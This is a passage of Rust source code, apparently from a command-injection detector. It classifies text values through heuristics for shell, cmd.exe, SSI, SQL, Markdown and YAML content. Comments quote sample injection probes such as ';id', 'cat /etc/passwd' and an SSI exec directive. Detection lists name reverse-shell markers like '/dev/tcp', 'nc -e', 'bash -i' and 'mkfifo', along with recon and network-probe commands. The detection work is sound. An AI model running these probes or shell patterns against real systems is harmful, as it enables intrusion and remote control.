    // right after the separator, its subcommand alone or given one name, `/options` and
    // `\\host`s).
    let net_recon = word == "net"
        && after.starts_with(' ')
        && arg
            .split_once(' ')
            .map_or(Some(arg), |(sub, more)| {
                let names = more
                    .split_whitespace()
                    .filter(|w| !w.starts_with(['/', '\\']))
                    .count();
                (names <= 1).then_some(sub)
            })
            .is_some_and(|sub| {
                matches!(
                    sub,
                    "view"
                        | "user"
                        | "localgroup"
                        | "group"
                        | "share"
                        | "session"
                        | "accounts"
                        | "config"
                        | "use"
                )
            });
    (flagged || alone || machine_arg || probed_host || resolved || arithmetic || net_recon)
        .then_some(0.85)
}

/// Commands a blind injection probes the network with (`ping -n 31 127.0.0.1`, `nslookup
/// x.oast.example`): given an address or a host name, they are a command line.
/// Whether the text before a `&` ends in a query string's `key=value` (`utm_source=x&id`:
/// a flag parameter named like a command follows, not a command).
fn query_pair_before(before: &str) -> bool {
    before
        .rsplit(['&', '?', ' '])
        .next()
        .is_some_and(|pair| pair.contains('='))
}

/// A command that prints who and where it runs, with no argument: the first probe of a
/// command injection (`;id`, `&whoami`).
fn reports_host(name: &str) -> bool {
    matches!(
        name,
        "id" | "whoami" | "uname" | "hostname" | "ifconfig" | "ipconfig" | "pwd" | "netstat"
    )
}

fn network_probe(name: &str) -> bool {
    matches!(
        name,
        "ping" | "nslookup" | "dig" | "curl" | "wget" | "nc" | "ncat" | "telnet"
    )
}

/// A DNS name with two or more dots and nothing else (`abc.oast.example`,
/// `x1.burpcollaborator.net`).
fn host_name(arg: &str) -> bool {
    arg.matches('.').count() >= 2
        && !arg.starts_with('.')
        && !arg.ends_with('.')
        && !arg.contains("..")
        && arg
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'))
        && arg.bytes().any(|b| b.is_ascii_alphabetic())
}

/// cmd.exe's `IF`: `IF [/I] [NOT] EXIST|DEFINED x`, `ERRORLEVEL n`, `CMDEXTVERSION n` or a
/// comparison (`==`, `EQU` … `GEQ`), then a command or a `(` block, at the start of the
/// value or after a separator. Operands have no comma: "If not defined, set it" is prose.
static WINDOWS_IF: LazyLock<regex::Regex> = LazyLock::new(|| {
    regex::Regex::new(
        r"(?i)(?:^|[&|;\n(])\s*if\s+(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined)\s+[^\s,]+|(?:errorlevel|cmdextversion)\s+\d+|[^\s,]+\s*(?:==|\bequ\b|\bneq\b|\blss\b|\bleq\b|\bgtr\b|\bgeq\b)\s*[^\s,]+)\s+(?:\(|@|(?:cmd|echo|goto|set|call|exit|cd|del|copy|type|start|if)\b)",
    )
    // A constant pattern: compiling it cannot fail.
    .unwrap_or_else(|_| unreachable!())
});

fn windows_if(text: &str) -> Option<f32> {
    // The regex wants `if` first or right after a separator: look only there.
    let candidate = starts_if(text)
        || text.bytes().enumerate().any(|(at, b)| {
            matches!(b, b'&' | b'|' | b';' | b'\n' | b'(') && starts_if(&text[at + 1..])
        });
    if text.len() > 400 || !candidate {
        return None;
    }
    WINDOWS_IF.is_match(text).then_some(0.8)
}

/// A cmd.exe `FOR` loop or `IF` statement.
/// Server-side includes run their command in the page (`<!--#exec cmd="id"-->`); the
/// other directives read server variables, files' sizes and dates, or the whole
/// environment (`<!--#echo var="DOCUMENT_ROOT"-->`, `<!--#printenv-->`): probes for
/// an SSI-enabled page. A directive name must follow `#` directly.
fn ssi_directive(text: &str) -> Option<f32> {
    if !crate::has(text, "<!--#") {
        return None;
    }
    let lower = text.to_ascii_lowercase();
    if lower.contains("<!--#exec") || lower.contains("<!--#include") {
        return Some(0.95);
    }
    let directive = lower.match_indices("<!--#").any(|(at, _)| {
        let rest = &lower[at + 5..];
        [
            // `set`, `if` and `elif` only steer the page: no probe by themselves.
            "echo", "config", "fsize", "flastmod", "printenv",
        ]
        .iter()
        .any(|d| {
            rest.strip_prefix(d)
                .is_some_and(|r| r.starts_with(|c: char| c.is_whitespace()) || r.starts_with("-->"))
        })
    });
    directive.then_some(0.85)
}

fn windows_cmd(text: &str) -> Option<f32> {
    windows_for(text).or_else(|| windows_if(text))
}

/// Does a shell reading `s` end inside a quoted string? Quotes of one kind are literal inside
/// the other (`echo "'"`), a backslash escapes outside single quotes, and a comment (`#` at
/// a word's start) runs to the line's end (`id #'` ends no string open).
fn unterminated_quote(s: &str) -> bool {
    let mut quote = None;
    let mut comment = false;
    let mut prev = b' ';
    let mut bytes = s.bytes();
    while let Some(b) = bytes.next() {
        match (quote, b) {
            _ if comment => comment = b != b'\n',
            (None, b'#') if prev.is_ascii_whitespace() || matches!(prev, b';' | b'|' | b'&') => {
                comment = true
            }
            (None | Some(b'"'), b'\\') => {
                bytes.next();
            }
            (None, b'\'' | b'"') => quote = Some(b),
            (Some(q), _) if b == q => quote = None,
            _ => {}
        }
        prev = b;
    }
    quote.is_some()
}

/// A regular expression's or an enum's alternation as the whole value (`(add|subtract|head|
/// tail|sort|cp)$`, `^tag:.+|Name|Type|KeyId|Path`, `jpg|png|gif|webp`, a log filter's or a
/// validator's pattern): four alternatives or more, no white space outside a bracket
/// expression, nothing a shell needs to redirect, chain or expand (`;`, `&`, `<`, `>`, a
/// backtick, `$` before a name or a parenthesis), and at most half the alternatives name a
/// command, none of them one that acts alone ([`acts_alone`]: `a|b|c|id` still runs `id`).
/// A pipeline with arguments has a space or an expansion.
fn alternatives(text: &str) -> bool {
    let b = text.as_bytes();
    let mut depth = 0usize;
    for (i, &c) in b.iter().enumerate() {
        match c {
            b'[' => depth += 1,
            b']' => depth = depth.saturating_sub(1),
            b';' | b'&' | b'<' | b'>' | b'`' => return false,
            b'$' if b
                .get(i + 1)
                .is_some_and(|n| n.is_ascii_alphabetic() || matches!(n, b'{' | b'(' | b'_')) =>
            {
                return false
            }
            c if c.is_ascii_whitespace() && depth == 0 => return false,
            _ => {}
        }
    }
    let tokens = text.split('|').count();
    let mut commands = 0;
    for t in text.split('|') {
        // A `+` may be a space the query string encoded (`|+id`).
        let t = t.trim_start_matches('+');
        let word = t.split('+').next().unwrap_or(t);
        let (s, e) = Rce::first_word_span(word);
        if let Some((name, _)) = Rce::command(&word[s..e]) {
            // A command alternative is its name alone, with a regex's marks around it
            // (`head\?`, `(make`, `copy*`); with anything after (`cat+/etc/passwd`) it has an
            // argument.
            let bare = t[e..].trim_matches(|c| "()^$?*~\\".contains(c)).is_empty();
            if acts_alone(name) || !bare {
                return false;
            }
            commands += 1;
        }
    }
    tokens >= 4 && commands * 2 <= tokens
}

/// A regular expression anchored at its start with a group (`^(https?|ftp|file)://([^\s]*)$`,
/// a schema's `pattern`): to bash and dash `^(` is a syntax error, so nothing on the line
/// runs, whatever its `|` alternatives name. Not `^[`: that is a glob word, and `^[x]|id`
/// runs `id`.
fn anchored_regex(text: &str) -> bool {
    let t = text.trim_start();
    t.starts_with("^(") && !t.contains(char::is_whitespace)
}

/// A regular expression's group of alternatives with the pattern going on right after it
/// (`(http|https|ftp)://\S+`, `(jpe?g|png)$`, `(a|b)?`): to bash and dash a subshell's
/// `)` glued to a word is a syntax error, so nothing on the line runs. One word, with no
/// white space, and no quote or `#` that could hide the group from the shell
/// (`x|id|echo'(a|b)c'` runs `id`); a `\(` is no group, and `$(…)`, `<(…)` or `>(…)` is
/// one a word may hold.
fn glued_group(text: &str) -> bool {
    let b = text.as_bytes();
    if b.iter()
        .any(|c| c.is_ascii_whitespace() || matches!(c, b'\'' | b'"' | b'#'))
    {
        return false;
    }
    // The groups open at each depth: where, and whether a `|` is in them.
    let mut open = [(0usize, false); 16];
    let mut depth = 0usize;
    for (j, &c) in b.iter().enumerate() {
        if j > 0 && b[j - 1] == b'\\' {
            continue;
        }
        match c {
            b'(' if depth == open.len() => return false,
            b'(' => {
                open[depth] = (j, false);
                depth += 1;
            }
            b'|' if depth > 0 => open[depth - 1].1 = true,
            b')' if depth > 0 => {
                depth -= 1;
                let (i, piped) = open[depth];
                let substitution = i > 0 && matches!(b[i - 1], b'$' | b'<' | b'>' | b'`');
                let glued = b.get(j + 1).is_some_and(|n| {
                    n.is_ascii_alphanumeric()
                        || matches!(
                            n,
                            b':' | b'?' | b'*' | b'+' | b'{' | b'\\' | b'/' | b'.' | b'['
                        )
                });
                if piped && glued && !substitution {
                    return true;
                }
            }
            _ => {}
        }
    }
    false
}

/// Does text between two backticks cross a Markdown block boundary: a blank line, or a
/// line that starts a list item or a heading?
fn crosses_block(between: &str) -> bool {
    // The text up to the last line break holds the whole lines a blank one can be; the
    // backtick's own line, after it, can still open a list item or a heading.
    let Some((whole, own)) = between.rsplit_once('\n') else {
        return false;
    };
    let starts_block = |line: &str| {
        let t = line.trim_start();
        t.starts_with("- ") || t.starts_with("* ") || t.starts_with("+ ") || t.starts_with('#')
    };
    let mut lines = whole.split('\n').skip(1);
    lines.any(|line| line.trim().is_empty() || starts_block(line)) || starts_block(own)
}

/// GNU's quotation, `` `like this' `` (Bash's and Make's changelogs, Texinfo): an opening
/// backtick, at most three words on one line, and an apostrophe glued to the last of them,
/// then a space or punctuation. Glued so, the apostrophe makes the command's own word
/// (`id' x'` is a program named `id x`); what a shell would run needs a space before it
/// (`id ' x'`) or an empty pair (`id''`).
fn gnu_quote(rest: &str) -> bool {
    let line = &rest[..rest.find(['\n', '`']).unwrap_or(rest.len())];
    let Some(q) = line.find('\'') else {
        return false;
    };
    let quoted = &line[..q];
    let after = rest[q + 1..].chars().next();
    quoted.ends_with(|c: char| !c.is_whitespace())
        && quoted.len() <= 40
        && !quoted.contains(['$', '|', ';', '&', '<', '>', '/', '"', '\\', '(', ')'])
        && quoted.split_whitespace().count() <= 3
        && after.is_none_or(|c| c.is_whitespace() || ".,;:)!?".contains(c))
}

/// A JavaScript tagged template over several lines: a tag name glued to the backtick and a
/// line break right after it (``gql`\n  type Query {…``, ``html`\n  <p>…``). A shell
/// substitution is one line in a payload.
fn tagged_template(text: &str, at: usize, rest: &str) -> bool {
    let tagged = text[..at]
        .bytes()
        .next_back()
        .is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_');
    tagged && (rest.starts_with('\n') || rest.starts_with("\r\n"))
}

/// A MySQL identifier quoted with backticks in a SQL statement (`` SELECT * FROM `users`
/// WHERE `users`.`id` = 1 ``: GORM's, Laravel's and Sequelize's logged queries, a query
/// console's text): one name between the backtick at `at` and the next, placed where SQL
/// names a table or a column (after `FROM`, `JOIN`, `INTO`, `UPDATE`, `TABLE`, `BY`,
/// `SELECT`, `WHERE`, `AND`, `OR`, `ON`, `SET`, a `.`, `,` or `(`; or before `.`, `,`, `)`,
/// ` =`), in a value that is a statement (`SELECT … FROM`, `INSERT INTO`, `UPDATE … SET`,
/// `DELETE FROM`, `CREATE` or `ALTER TABLE`). A shell's substitution stands after a
/// separator or glued to an argument.
fn sql_identifier(text: &str, at: usize) -> bool {
    let Some((content, after)) = text[at + 1..].split_once('`') else {
        return false;
    };
    if content.is_empty()
        || !content
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$'))
    {
        return false;
    }
    let before = text[..at].trim_end_matches([' ', '\t', '\n']);
    let word = before
        .rsplit(|c: char| !c.is_ascii_alphabetic())
        .next()
        .unwrap_or("")
        .to_ascii_lowercase();
    let placed = before.ends_with(['.', ',', '('])
        || matches!(
            word.as_str(),
            "from"
                | "join"
                | "into"
                | "update"
                | "table"
                | "by"
                | "select"
                | "where"
                | "and"
                | "or"
                | "on"
                | "set"
                | "distinct"
        )
        || after.starts_with(['.', ',', ')'])
        || after.starts_with(" =");
    let statement = |a: &str, b: &str| {
        crate::find_ci(text, a).is_some_and(|i| crate::find_ci(&text[i..], b).is_some())
    };
    placed
        && (statement("select ", " from ")
            || statement("insert ", " into ")
            || statement("update ", " set ")
            || statement("delete ", " from ")
            || statement("create ", " table ")
            || statement("alter ", " table "))
}

/// Is the backtick at `at` (text after it: `rest`) a Markdown code span in prose, and its
/// content no attack? Prose writes code between backticks all the time (`` `find` ``,
/// `` `HEAD` ``, `` `setTimeout` ``, `` `ps --info` ``, `` `type W<T> = (u32, T)` ``); a
/// substitution an attacker plants is glued to the value (`;`id``, `x`whoami``), is the
/// whole value, or chains, redirects or reaches for system files inside the span.
fn markdown_span(text: &str, at: usize, rest: &str) -> bool {
    let Some(end) = rest.find('`') else {
        return false;
    };
    let span = &rest[..end];
    let tail = &rest[end + 1..];
    let before = text[..at].chars().next_back();
    // After whitespace, an opening bracket or quote, emphasis, or a reStructuredText role
    // (`` :ref:`…` ``).
    // A reStructuredText role (`` :file:`/usr/bin/x` ``, `` :mod:`pwd`/:mod:`grp` ``) marks
    // the span as a name in a document, whatever follows it.
    let role = before == Some(':')
        && text[..at]
            .trim_end_matches(':')
            .ends_with(|c: char| c.is_ascii_alphabetic());
    // MyST Markdown puts the role in braces (`` the {func}`echo` function ``, `` see
    // {doc}`wincmd` ``), in a sentence. It bounds the span as a space would; unlike a
    // reST role it does not excuse a system file, since `{x}` glued to a substitution is
    // still a word a shell runs it in.
    let myst_role = before == Some('}')
        && text[..at - 1].rsplit_once('{').is_some_and(|(_, name)| {
            !name.is_empty()
                && name
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b':' | b'-' | b'_'))
        })
        && crate::xss::prose_words(text) >= 3;
    // Chinese, Japanese and Korean write no spaces around a span (`` `A`と`B`は`type`キー
    // ワード ``): any character outside ASCII bounds it as a space does.
    // Spans joined by a `/` or `@` in a sentence (`` in the format
    // `servicename`/`hostname`@`realm` ``) bound each other as spaces do.
    let joined_before = matches!(before, Some('/' | '@'))
        && text[..at - 1].ends_with('`')
        && crate::xss::prose_words(text) >= 3;
    let opens = role
        || myst_role
        || joined_before
        || before.is_none_or(|c| c.is_whitespace() || !c.is_ascii() || "([{\"'*_".contains(c));
    // `` `Id`s ``, `` `eval`ed ``, `` `grep`ing ``: a plural or an inflection after the
    // span is still prose.
    let plural = ["s", "es", "ed", "ing", "'s"].iter().any(|suffix| {
        tail.strip_prefix(suffix)
            .is_some_and(|t| !t.starts_with(|c: char| c.is_alphanumeric()))
    });
    // `` `wget`-like downloads ``, `` `npm`-based ``: a compound word in a sentence.
    let compound = tail.strip_prefix('-').is_some_and(|t| {
        let letters = t.bytes().take_while(u8::is_ascii_alphabetic).count();
        letters >= 3 && !t[letters..].starts_with(|c: char| c.is_alphanumeric() || c == '-')
    }) && crate::xss::prose_words(text) >= 3;
    let joined_after =
        (tail.starts_with("/`") || tail.starts_with("@`")) && crate::xss::prose_words(text) >= 3;
    let closes = plural
        || compound
        || joined_after
        || role
        || tail
            .chars()
            .next()
            .is_none_or(|c| c.is_whitespace() || !c.is_ascii() || ".,:;!?)]}'\"*_".contains(c));
    // The span alone (`` `id` ``, `"`uname`"`, `${`id`}`) is no code shown in prose.
    let wrap = |c: char| c.is_whitespace() || "\"'([{$)]}".contains(c);
    // Separators or a comment after it end the payload (`` `sleep 4`; ``).
    let alone = text[..at].trim_matches(wrap).is_empty()
        && tail
            .trim_matches(|c: char| wrap(c) || ";&|#".contains(c))
            .is_empty();
    if !opens || !closes || alone {
        return false;
    }
    // reStructuredText links put their target in angle brackets: `` `Python docs
    // <https://docs.python.org/>`_ ``, `` :ref:`more about packages <tut-packages>` ``.
    let link = span.rfind('<').filter(|&p| {
        span.ends_with('>')
            && span[..p].ends_with(char::is_whitespace)
            && !span[p..].contains(char::is_whitespace)
    });
    let span = link.map_or(span, |p| &span[..p]);
    let lower = span.to_ascii_lowercase();
    let chained = span.contains(['$', '|', ';', '&', '`'])
        || [" >", " <", ">/", "</"].iter().any(|r| span.contains(r));
    // A user's folder on a Windows drive (`C:\Users\…\AppData`) is no system file.
    let reaches = |dirs: &[&str]| {
        dirs.iter().any(|p| {
            lower
                .match_indices(p)
                .any(|(at, _)| !p.starts_with('/') || !inside_relative_path(&lower, at))
        })
    };
    let beyond_scratch = reaches(&[
        "/etc/",
        "/bin/",
        "/dev/",
        "/proc/",
        "c:\\windows",
        "c:\\winnt",
        "c:\\boot.ini",
        "c:\\inetpub",
    ]);
    let system = beyond_scratch || reaches(&["/tmp/"]);
    // A shell or an interpreter named by its path (`` Defaults to `/bin/sh` on unix ``,
    // `` `/usr/bin/python3` is used ``): run alone, it reads a script from a stdin the
    // request does not give it. Any argument (`/bin/sh -c id`) makes it a command line.
    // Any other program named alone (`` use `/bin/rm` if you want to do that ``) runs with
    // no argument: a usage message. Not one that tells about the host or reaches out with
    // none (`/usr/bin/id`, `/bin/uname`, `/sbin/ifconfig`).
    let program_named = !span.contains(char::is_whitespace)
        && [
            "/bin/",
            "/usr/bin/",
            "/usr/local/bin/",
            "/sbin/",
            "/usr/sbin/",
        ]
        .iter()
        .find_map(|dir| lower.trim_matches(['\'', '"']).strip_prefix(dir))
        .is_some_and(|name| {
            !name.is_empty()
                && name
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
                && !acts_alone(name)
        });
    // A service's configuration directory listed or tested in a sentence (`` I ran `ls -la
    // /etc/nginx/sites-enabled/ && nginx -t` ``, a support ticket's report): `/etc/<dir>/`
    // only, no file an attacker reads ([`crate::lfi::names_sensitive_file`]) and no other
    // system directory.
    let config_dir_only = || {
        lower.match_indices("/etc/").all(|(at, _)| {
            let name = &lower[at + 5..];
            let len = name
                .bytes()
                .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
                .count();
            len > 0 && name[len..].starts_with('/')
        }) && ["/bin/", "/dev/", "/proc/", "/tmp/", "c:\\"]
            .iter()
            .all(|p| !lower.contains(p))
            && !crate::lfi::names_sensitive_file(&lower)
    };
    let system = system && !program_named;
    let fetches = ["http:", "https:", "ftp:"]
        .iter()
        .any(|p| lower.contains(p));
    // A chained command line or a request to a URL shown in a sentence (`` Run `rm -rf
    // node_modules && npm install` then restart ``, `` Tried `curl -X POST https://…` and got
    // 401 ``) is an instruction to a reader or a report; payloads carry no sentence around
    // their span. What a sentence cannot excuse: system files, and the shells of
    // `risky_shell` (a download piped into `sh`).
    // Words glued to the span by brackets (`${passthru(print(`…`))`) are code around it:
    // a sentence has a space outside the span.
    let spaced = text[..at].contains(char::is_whitespace) || tail.contains(char::is_whitespace);
    let in_sentence = spaced && crate::xss::prose_words(text) >= 2;
    // A span that opens with `#` is a comment to a shell, to the end of its line: a
    // shebang shown in a sentence (`` supports `#!/usr/bin/env <program>` where … ``).
    let comment = span.trim_start().starts_with('#') && !span.contains(['\n', '\r']);
    if comment && in_sentence {
        return true;
    }
    // A program named alone in a sentence (`` use `powershell` to run it ``) takes no
    // command: like a shell named by its path, it would read one from a stdin the request
    // does not give it.
    let named_alone = in_sentence
        && !lower.is_empty()
        && lower
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_'));
    let config_shown =
        system && in_sentence && crate::xss::prose_words(text) >= 3 && config_dir_only();
    // A file in the scratch directory named in a sentence (`` logs go to `/tmp/app.log` ``,
    // `` the socket is `/tmp/.X11-unix/X0` ``) or handled by a file utility (`` run `rm -rf
    // /tmp/build` to start over ``, `` `tail -f /tmp/app.log` ``): shown, not run. Fetching
    // into it (`` `wget … -O /tmp/x` ``, the first step of a dropped payload), making a file
    // there runnable or running one with an interpreter (`` `sh /tmp/x` ``) are no file
    // utility's work and stay system reaches, as does anything chained after the utility
    // (`` `cd /tmp && ./x` ``).
    let scratch_shown = system
        && !beyond_scratch
        && !chained
        && in_sentence
        && ((!span.trim().contains(char::is_whitespace) && lower.trim().starts_with("/tmp/"))
            || lower
                .split_whitespace()
                .next()
                .is_some_and(|w| FILE_UTILITIES.contains(&w)));
    !((system && !role && !config_shown && !scratch_shown)
        || (risky_shown(&lower) && !named_alone)
        || ((chained || fetches) && !in_sentence))
}

/// Programs that list, read, copy, move or remove files and run none of them (no `find`, with
/// its `-exec`, no `tar`, with its `--to-command`).
const FILE_UTILITIES: &[&str] = &[
    "cat", "cd", "cp", "diff", "du", "file", "grep", "head", "less", "ln", "ls", "mkdir", "more",
    "mv", "rm", "rmdir", "stat", "tail", "touch", "wc",
];

/// Whether the byte at `at` lies inside a relative path that starts in a project's folder
/// (`.venv/bin/activate`, `node_modules/.bin/tsc`, `build/tmp/out`): the word around it
/// starts with a name, not with `/`, and holds no `../` that climbs out, and no `$`, `{`
/// or backtick that could expand to a system path before it (`cat$u/etc/passwd`).
fn inside_relative_path(text: &str, at: usize) -> bool {
    let bound = |c: char| c.is_whitespace() || "\"'=();&|<>,".contains(c);
    let start = text[..at].rfind(bound).map_or(0, |p| p + 1);
    let end = text[at..].find(bound).map_or(text.len(), |p| at + p);
    let word = &text[start..end];
    start < at
        && word.starts_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
        && !word.contains("../")
        && !word.contains(['$', '{', '`'])
}

/// `$(ECHO)` in a build file (`$(NOECHO) $(ECHO) 'Created $(DISTVNAME).zip'`, `$(CHMOD)
/// $(PERM_RWX) $@`): a Make or MSBuild variable, its name upper case, no arguments, and
/// another such variable in the value. Shells look a command up by its exact name
/// (`ECHO: command not found`); only PowerShell and case-insensitive file systems would
/// find one, and a payload has no second variable to show. One alone in a sentence is named
/// by a changelog or a build log (`expose $(SED) to the makefiles`, `Use sed instead of
/// $(SED).`): a payload carries no sentence.
fn make_variable(rest: &str, text: &str) -> bool {
    fn upper_closed(s: &str) -> bool {
        let b = s.as_bytes();
        let n = b
            .iter()
            .take_while(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || **c == b'_')
            .count();
        n >= 2 && b[0].is_ascii_uppercase() && b.get(n) == Some(&b')')
    }
    upper_closed(rest)
        && (text
            .match_indices("$(")
            .filter(|&(at, _)| upper_closed(&text[at + 2..]))
            .nth(1)
            .is_some()
            || crate::xss::prose_words(text) >= 4)
}

/// Does `before` (the text up to a `>`) end inside an HTML tag of a text-level or block
/// element (`<a href="…"`, `</span`, `<td class="x"`), in a value of markup? Then the
/// `>` closes markup. A shell reads `</span>(env)` as a redirection and a process
/// substitution, but a payload has no page of markup around it.
fn ends_html_tag(before: &str, text: &str) -> bool {
    const TEXT_TAGS: [&str; 16] = [
        "a", "span", "b", "i", "em", "strong", "code", "td", "th", "li", "p", "div", "sup", "sub",
        "small", "font",
    ];
    let Some(tag) = crate::open_tag(before) else {
        return false;
    };
    let name = tag.trim_start_matches('/');
    let name_end = name
        .find(|c: char| !c.is_ascii_alphanumeric())
        .unwrap_or(name.len());
    let known = TEXT_TAGS
        .iter()
        .any(|t| name[..name_end].eq_ignore_ascii_case(t));
    // A page of markup around the parenthesis (three tags, an attribute's quoted value),
    // not a lone `<b>(id)` or `<b>x</b>(id)`.
    let tags = text
        .match_indices('<')
        .filter(|&(at, _)| {
            text[at + 1..]
                .trim_start_matches('/')
                .starts_with(|c: char| c.is_ascii_alphabetic())
        })
        .take(3)
        .count();
    known && tags >= 3 && (text.contains("=\"") || text.contains("='"))
}

/// A shell script shown whole (a gist, a CI job's script, a snippet): the value opens with a
/// shebang naming a shell (`#!/bin/sh`, `#! /bin/bash -e`, `#!/usr/bin/env bash`) and has two
/// more lines at least. Like a fenced block it is code a reader is shown, and what no script
/// is shown for ([`risky_shell`]: a reverse shell, a download piped into a shell) still
/// counts. An injection could open with a shebang too (to a shell it is a comment, and the
/// next line runs); none of the payloads of the corpora and scanners we test does, while a
/// pasted script always does. An uploaded file (`file`) is a script with one line too
/// (`#!/usr/bin/env bash` + `sleep 10`): no shell reads a file's content as a command line.
fn shell_script(text: &str, file: bool) -> bool {
    let Some((first, body)) = text
        .strip_prefix("#!")
        .and_then(|rest| rest.split_once('\n'))
    else {
        return false;
    };
    let mut words = first.split_whitespace();
    let mut program = words.next().unwrap_or("");
    if matches!(program, "/usr/bin/env" | "/bin/env") {
        program = words.next().unwrap_or("");
    }
    let shell = program.rsplit('/').next().unwrap_or("");
    let at_shell_path = !program.contains('/')
        || ["/bin/", "/usr/bin/", "/usr/local/bin/"]
            .iter()
            .any(|d| program.strip_prefix(d) == Some(shell));
    matches!(shell, "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash")
        && at_shell_path
        && body.lines().filter(|l| !l.trim().is_empty()).count() >= if file { 1 } else { 2 }
}

/// A terminal's transcript pasted into a ticket or a chat (`$ echo z | sed -E 's/(z)/\1/'`,
/// `$ ps aux | grep nginx`, `PS C:\> Get-Process | Where-Object …`): each line that starts
/// with the `$ ` prompt and a command, or PowerShell's prompt, is a command line shown as
/// typed, as in a fence. A payload starts with its separator or
/// substitution; the prompt is the reader's cue. What [`risky_shell`] names still counts.
fn prompt_lines(text: &str) -> impl Iterator<Item = (usize, usize)> + '_ {
    let mut start = 0;
    text.split_inclusive('\n').filter_map(move |line| {
        let at = start;
        start += line.len();
        let body = line.trim_start();
        let word = match powershell_prompt(body) {
            Some(command) => command.split_whitespace().next()?,
            None => {
                let word = body.strip_prefix("$ ")?.split_whitespace().next()?;
                is_command(word).then_some(word)?
            }
        };
        (!word.is_empty()).then_some((at, at + line.len()))
    })
}

/// PowerShell's prompt, which names the folder (`PS C:\Users\me> Get-Process | …`): the
/// command typed after it.
fn powershell_prompt(line: &str) -> Option<&str> {
    let (folder, command) = line.strip_prefix("PS ")?.split_once("> ")?;
    (folder.get(1..3) == Some(":\\") && !folder.contains(char::is_whitespace)).then_some(command)
}

/// A shell script's part shown without its shebang (a snippet field, a CI job's `script`, a
/// gist of a test's `runme.sh`): four lines at least, one of them a comment that explains
/// in a sentence (`# hide the debug noise by dumping to a file`) or a ShellCheck directive. A payload's `#` cuts off
/// what follows it on its line, and a sentence after it is a script's author talking; what
/// no script is shown for ([`risky_shell`]) still counts, as for [`shell_script`].
fn annotated_script(text: &str) -> bool {
    let b = text.as_bytes();
    if !b.contains(&b'#') || !b.contains(&b'\n') {
        return false;
    }
    let mut lines = 0;
    let mut explained = false;
    for line in text.lines().map(str::trim).filter(|l| !l.is_empty()) {
        lines += 1;
        if let Some(comment) = line.strip_prefix('#') {
            // A ShellCheck directive (`# shellcheck shell=sh`) names the script's shell.
            explained |= !comment.starts_with('!')
                && (crate::xss::prose_words(comment) >= 3
                    || comment.trim_start().starts_with("shellcheck "));
        }
    }
    lines >= 4 && explained
}

/// A YAML document shown whole (a CI workflow, an Ansible play, a Compose or Kubernetes
/// file sent to a lint or config API): four lines at least, three of them keys, and every
/// line YAML's own: a key (`run: cargo test`, `- name: stop apache`), a list item, a comment,
/// a `---` marker, or a line of a block scalar (`run: |`) indented under its key. The shell
/// is in the values of `run:` or `shell:`, a job's steps a reader is shown. A payload's lines
/// are commands (`id`, `cat /etc/passwd`), which are not keys, and what no document is shown
/// for ([`risky_shell`]) still counts.
fn yaml_document(text: &str) -> bool {
    // Four lines at least, and a key among them; most values are one line.
    if !text.contains('\n') || (!text.contains(":\n") && !text.contains(": ")) {
        return false;
    }
    let (mut lines, mut keys) = (0, 0);
    // The indent of the key whose block scalar (`|`, `>-`) the next deeper lines belong to.
    let mut block: Option<usize> = None;
    for line in text.lines() {
        let body = line.trim_end();
        if body.trim_start().is_empty() {
            continue;
        }
        lines += 1;
        let indent = body.len() - body.trim_start_matches(' ').len();
        if block.is_some_and(|key| indent > key) {
            continue;
        }
        block = None;
        let mut item = &body[indent..];
        if item.starts_with('#') || item == "---" || item == "..." {
            continue;
        }
        let mut listed = false;
        while let Some(rest) = item.strip_prefix("- ").or((item == "-").then_some("")) {
            item = rest.trim_start_matches(' ');
            listed = true;
        }
        match yaml_key_value(item) {
            Some(value) => {
                keys += 1;
                let indicator = value.trim_end_matches(|c: char| c.is_ascii_digit());
                if matches!(indicator, "|" | ">" | "|-" | ">-" | "|+" | ">+") {
                    block = Some(indent);
                }
            }
            // A list's item that is a plain value (`- ubuntu-latest`).
            None if listed => {}
            None => return false,
        }
    }
    lines >= 4 && keys >= 3
}

/// The value after a YAML key (`name: x` gives `x`, `steps:` gives ``): the key a plain
/// name (letters, digits, `_`, `-`, `.`) or quoted, the colon followed by a space or the end.
fn yaml_key_value(line: &str) -> Option<&str> {
    let end = match line.chars().next()? {
        q @ ('"' | '\'') => line[1..].find(q)? + 2,
        c if c.is_ascii_alphanumeric() || c == '_' => line
            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.')))
            .unwrap_or(line.len()),
        _ => return None,
    };
    let rest = line[end..].strip_prefix(':')?;
    if rest.is_empty() {
        return Some("");
    }
    rest.strip_prefix(' ').map(str::trim)
}

/// Ruby's command literal, `%x(…)` with any bracket or a `|` as its delimiter, whose first
/// word is a command (`%x('ls -al /')`, `%x{id}`): Ruby runs it in a shell where it is
/// evaluated, as it does a backtick string. `printf`'s `%x (hex)` has a space and no command.
fn ruby_command_literal(text: &str) -> bool {
    text.match_indices("%x").any(|(at, _)| {
        let rest = &text[at + 2..];
        let Some(open) = rest.chars().next().filter(|c| "({[<|".contains(*c)) else {
            return false;
        };
        let program = rest[1..].trim_start_matches(['\'', '"', ' ']);
        let word_end = program
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
            .unwrap_or(program.len());
        let close = match open {
            '(' => ')',
            '{' => '}',
            '[' => ']',
            '<' => '>',
            _ => '|',
        };
        word_end > 0 && program[word_end..].contains(close) && is_command(&program[..word_end])
    })
}

/// Lowercased shell that opens a channel or runs what it fetches or decodes: a reverse
/// shell, a pipe into a shell, an inline interpreter. Shown in a document or not, these
/// are what an injection runs.
fn risky_shell(lower: &str) -> bool {
    [
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "/dev/tcp",
        "/dev/udp",
        "nc -e",
        "-e /bin/sh",
        "-e /bin/bash",
        "-e cmd.exe",
        "ncat ",
        "bash -i",
        "sh -i",
        "base64 -d",
        "mkfifo",
        "powershell",
        "| iex",
